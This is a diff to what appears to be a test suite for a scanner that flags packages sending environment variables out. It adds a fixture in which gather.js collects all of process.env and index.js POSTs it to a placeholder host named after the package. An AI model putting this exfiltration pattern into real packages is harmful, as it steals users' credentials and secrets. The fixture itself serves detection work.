@@ -6,6 +6,16 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'it is gathered in another file, and the host is called like the package',
+      id: { name: 'acme-colours' },
+      files: {
+        'package.json': { name: 'acme-colours', version: '1.0.0' },
+        'index.js': `fetch('https://acme-colours.invalid/', { method: 'POST', body: JSON.stringify(require('./gather')()) })`,
+        'gather.js': `module.exports = () => ({ env: process.env })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a client sends its own key at once',
       files: { 'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })` },
       weight: 'context',
